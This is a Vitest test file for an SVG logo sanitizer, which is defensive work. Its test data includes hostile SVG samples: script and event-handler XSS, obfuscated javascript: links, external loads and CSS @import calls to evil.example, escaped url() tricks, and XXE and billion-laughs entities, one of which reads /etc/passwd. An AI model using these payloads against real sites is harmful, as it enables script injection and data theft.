import { describe, expect, it } from 'vitest';
import { looksLikeSvg, SvgRejected, sanitizeCss, sanitizeSvg } from './organization-theme.svg.ts';

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const wrap = (inner: string, rootAttributes = '') => `<svg ${SVG} ${XLINK}${rootAttributes}>${inner}</svg>`;

/** Nothing that can run, navigate or load may survive, whatever the spelling. */
function expectHarmless(sanitized: string) {
  // The namespace declarations are the only URLs allowed to stay.
  const output = sanitized.replace(` ${SVG}`, '').replace(` ${XLINK}`, '');
  expect(output).not.toMatch(/<script|<foreignObject|<iframe|<object|<embed|<animate|<set\b|<a\b|<handler/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|@import|https?:|\/\/evil/i);
  expect(output).not.toMatch(/href="(?!#|data:image\/(?:png|jpeg);base64,)/);
}

describe('sanitizeSvg keeps a logo a logo', () => {
  it('keeps shapes, gradients, internal references, text and styles', () => {
    const source = wrap(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#40ba58"/></linearGradient></defs>' +
        '<style>.a{fill:url(#g)} .b > .c{stroke:#000}</style>' +
        '<g transform="translate(1 2)"><path d="M0 0L10 10" class="a" style="fill:url(#g);stroke-width:2"/>' +
        '<use xlink:href="#g"/><use href="#g"/><text x="1" y="2" font-family="Inter">A &amp; B</text></g>',
      ' viewBox="0 0 10 10" width="10"',
    );
    const output = sanitizeSvg(source);
    expect(output).toBe(
      `<svg ${SVG} ${XLINK} viewBox="0 0 10 10" width="10">` +
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#40ba58"/></linearGradient></defs>' +
        '<style>.a{fill:url(#g)} .b &gt; .c{stroke:#000}</style>' +
        '<g transform="translate(1 2)"><path d="M0 0L10 10" class="a" style="fill:url(#g);stroke-width:2"/>' +
        '<use xlink:href="#g"/><use href="#g"/><text x="1" y="2" font-family="Inter">A &amp; B</text></g></svg>',
    );
    // Its own output is already clean: sanitising again changes nothing.
    expect(sanitizeSvg(output)).toBe(output);
  });

  it('gives an SVG without a namespace the SVG namespace so browsers draw it', () => {
    expect(sanitizeSvg('<svg width="4"><rect width="1"/></svg>')).toBe(
      `<svg ${SVG} width="4"><rect width="1"/></svg>`,
    );
  });

  it("keeps a link's drawing and text but not the link", () => {
    expect(
      sanitizeSvg(wrap('<text x="1"><a href="javascript:alert(1)">Acme <tspan>Ltd</tspan></a></text>')),
    ).toBe(`<svg ${SVG}><text x="1">Acme <tspan>Ltd</tspan></text></svg>`);
  });

  it('keeps embedded PNG and JPEG images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const jpeg = 'data:image/jpeg;base64,/9j/4AAQ';
    expect(sanitizeSvg(wrap(`<image href="${png}"/><image xlink:href="${jpeg}"/>`))).toContain(
      `<image href="${png}"/><image xlink:href="${jpeg}"/>`,
    );
  });
});

describe('sanitizeSvg removes what a hostile logo carries', () => {
  // biome-ignore format: one sample a line
  const hostile: Array<[string, string]> = [
    ['a script element', '<script>alert(1)</script><script xlink:href="https://evil.example/x.js"/>'],
    ['a script in another namespace prefix', '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'],
    ['a script in CDATA', '<script><![CDATA[alert(1)]]></script>'],
    ['event handlers', '<rect onclick="alert(1)" ONLOAD="alert(1)" onmouseover="alert(1)" width="1"/>'],
    ['a foreignObject with HTML', '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>'],
    ['a javascript link', '<a href="javascript:alert(1)"><rect width="1"/></a><a xlink:href=" jav&#x09;ascript:alert(1)">x</a>'],
    ['an external use', '<use href="https://evil.example/sprite.svg#a"/><use xlink:href="//evil.example/a.svg#b"/>'],
    ['an external image', '<image href="https://evil.example/track.png"/><image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>'],
    ['an animation that rewrites a link', '<animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/>'],
    ['external url() in attributes', '<rect fill="url(https://evil.example/p#x)" filter="url( //evil.example/f )" mask="url(\'http://evil.example\')"/>'],
    ['external url() in a style attribute', '<rect style="fill:url(https://evil.example/a);background:URL(//evil.example/b)"/>'],
    ['CSS escapes hiding url', '<rect style="fill:\\75rl(https://evil.example/a)"/>'],
    ['imports and fonts in a style element', '<style>@import "https://evil.example/a.css"; @import "//evil.example/b.css"; @font-face{font-family:x;src:url(https://evil.example/f.woff)} .a{background:url(https://evil.example/c)}</style>'],
    ['old script hooks in CSS', '<style>.a{behavior:url(x.htc);-moz-binding:url(x.xml#y);width:expression(alert(1))}</style>'],
    ['javascript in any attribute', '<rect fill="javascript:alert(1)" class="java&#10;script:alert(1)"/>'],
    ['an xml:base and unknown namespaced attributes', '<g xml:base="https://evil.example/" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click"><rect width="1"/></g>'],
    ['processing instructions and comments', '<?xml-stylesheet href="https://evil.example/a.xsl"?><!-- https://evil.example --><rect width="1"/>'],
    ['HTML elements', '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div><iframe/><object data="https://evil.example"/><embed src="https://evil.example"/>'],
    ['an XHTML handler element', '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">alert(1)</handler>'],
  ];

  it.each(hostile)('removes %s', (_label, inner) => {
    const output = sanitizeSvg(wrap(inner, ' onload="alert(1)"'));
    expectHarmless(output);
    expect(output.startsWith(`<svg ${SVG}`)).toBe(true);
  });

  it('reads a style element whole, so comments, CDATA or elements cannot split an @import', () => {
    const split = [
      '<style>@imp<!-- -->ort "https://evil.example/a.css";</style>',
      '<style>@imp<![CDATA[ort "https://evil.example/a.css";]]></style>',
      '<style>@imp<g/>ort "https://evil.example/a.css";</style>',
      '<style>.a{fill:u<?x?>rl(https://evil.example/a)}</style>',
    ];
    for (const inner of split)
      expect(sanitizeSvg(wrap(inner)).replace(` ${SVG}`, '')).not.toMatch(/evil|@import|url/i);
    expect(sanitizeSvg(wrap(split[0] ?? ''))).toBe(`<svg ${SVG}><style/></svg>`);
  });

  it('keeps the safe part of a style and drops the rest', () => {
    expect(sanitizeCss('fill:red;/* https://evil.example */background:url(//evil.example);stroke:blue')).toBe(
      'fill:red;;stroke:blue',
    );
    expect(sanitizeCss('@font-face{src:url(https://evil.example/f)} .a{fill:#fff}')).toBe(' .a{fill:#fff}');
    expect(sanitizeCss('@import url(https://evil.example/a.css)')).toBe('');
    // An at-rule the patterns cannot delimit takes the whole style with it.
    expect(sanitizeCss('.a{fill:red} @font-face{src:url(https://evil.example/f)')).toBe('');
  });
});

describe('sanitizeSvg refuses what is not an SVG document', () => {
  it.each([
    ['HTML', '<html><body><svg/></body></html>'],
    ['an unclosed element', `<svg ${SVG}><rect`],
    [
      'an entity defined in a DTD (no expansion, no external entity)',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG}>&x;</svg>`,
    ],
    [
      'a billion-laughs entity',
      `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg ${SVG}>&b;</svg>`,
    ],
    ['an unbound prefix', `<svg ${SVG}><x:rect/></svg>`],
    ['two roots', `<svg ${SVG}/><svg ${SVG}/>`],
    ['plain text', 'hello'],
    ['an empty file', ''],
  ])('refuses %s', (_label, source) => {
    expect(() => sanitizeSvg(source)).toThrow(SvgRejected);
  });

  it('refuses nesting deep enough to be an attack on the parser', () => {
    const deep = `<svg ${SVG}>${'<g>'.repeat(200)}${'</g>'.repeat(200)}</svg>`;
    expect(() => sanitizeSvg(deep)).toThrow(/nested too deeply/);
  });
});

describe('looksLikeSvg', () => {
  it('recognises an SVG after a declaration, comments and a doctype', () => {
    expect(looksLikeSvg('<svg/>')).toBe(true);
    expect(
      looksLikeSvg(
        '\uFEFF<?xml version="1.0"?>\n<!-- a -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n<svg>',
      ),
    ).toBe(true);
    expect(looksLikeSvg('<html><svg>')).toBe(false);
    expect(looksLikeSvg('<svgx>')).toBe(false);
  });
});
